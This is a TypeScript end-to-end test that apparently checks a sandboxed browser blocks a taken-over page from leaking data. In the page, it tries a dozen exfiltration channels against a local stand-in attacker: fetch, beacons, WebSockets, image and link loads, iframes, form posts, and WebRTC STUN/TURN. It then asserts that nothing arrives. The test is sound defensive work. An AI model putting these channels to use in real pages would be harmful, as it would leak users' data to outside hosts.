import { expect, test } from '../e2e/fixture.ts';
import { startAttacker } from './listening-attacker.ts';

// With a Chromium of its own, as a person has it.
test.use({ sharesChromium: false });

test('a page that is taken over reaches nobody: not by fetch, not by pictures and links, not by WebRTC', async ({
  station: { page },
}) => {
  const attacker = await startAttacker();
  const tried = await page.evaluate(
    async ({ host, udpHost }) => {
      const url = `http://${host}/?what-the-page-knows`;
      const outcomes: Record<string, string> = {};
      const attempt = async (name: string, act: () => unknown) => {
        try {
          await act();
          outcomes[name] = 'tried';
        } catch (error) {
          outcomes[name] = String(error).slice(0, 60);
        }
      };
      await attempt('fetch', () => fetch(url, { mode: 'no-cors' }));
      await attempt('beacon', () => navigator.sendBeacon(url, 'x'));
      await attempt('socket', () => new WebSocket(`ws://${host}/`));
      await attempt('events', () => new EventSource(url));
      await attempt('picture', () => (new Image().src = url));
      for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'stylesheet', 'modulepreload'])
        await attempt(rel, () => {
          const link = Object.assign(document.createElement('link'), { rel, href: url });
          document.head.append(link);
        });
      await attempt('frame', () => {
        document.body.append(Object.assign(document.createElement('iframe'), { src: url }));
      });
      await attempt('form', () => {
        const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
        document.body.append(form);
        form.submit();
      });
      await attempt('WebRTC', async () => {
        const connection = new RTCPeerConnection({
          iceServers: [
            { urls: `stun:${udpHost}` },
            { urls: `turn:${udpHost}`, username: 'what-the-page-knows', credential: 'x' },
            { urls: `turn:${host}?transport=tcp`, username: 'what-the-page-knows', credential: 'x' },
          ],
        });
        connection.createDataChannel('out');
        await connection.setLocalDescription(await connection.createOffer());
      });
      await new Promise((resolve) => setTimeout(resolve, 2500));
      return outcomes;
    },
    { host: attacker.host, udpHost: attacker.udpHost },
  );
  // WebRTC was there to be tried: what held it back is not a page without it.
  expect(tried['WebRTC']).toBe('tried');
  expect(attacker.heard().toString('latin1')).toBe('');
  await attacker.close();
});
